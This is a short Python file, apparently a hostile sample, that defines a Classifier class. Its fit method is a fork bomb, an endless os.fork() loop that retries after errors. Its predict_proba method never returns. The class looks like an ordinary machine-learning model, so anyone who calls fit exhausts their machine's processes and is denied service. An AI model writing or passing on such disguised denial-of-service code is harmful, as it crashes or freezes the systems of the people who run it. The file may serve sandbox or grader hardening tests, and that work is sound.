# The classic fork bomb: every process forks for ever; none gives up at the pids limit.
import os
import time


class Classifier:
    def fit(self, X, y):
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)

    def predict_proba(self, X):
        raise AssertionError("never reached")
